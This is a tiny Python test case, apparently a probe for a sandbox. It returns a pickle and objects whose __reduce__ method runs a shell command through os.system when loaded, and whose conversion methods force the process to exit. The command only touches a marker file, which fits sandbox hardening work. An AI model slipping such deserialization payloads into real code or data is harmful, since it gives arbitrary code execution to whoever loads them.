# Tries: a pickle and objects with __reduce__, in the hope that somebody loads them
# ends: value
import os, pickle
class R:
    def __reduce__(self): return os.system, ("touch SECRETDIR/sbx_pickle",)
    __getstate__ = __array__ = __float__ = __index__ = lambda self, *a: os._exit(3)
def f(x): return R(), pickle.dumps(R()), [R()]
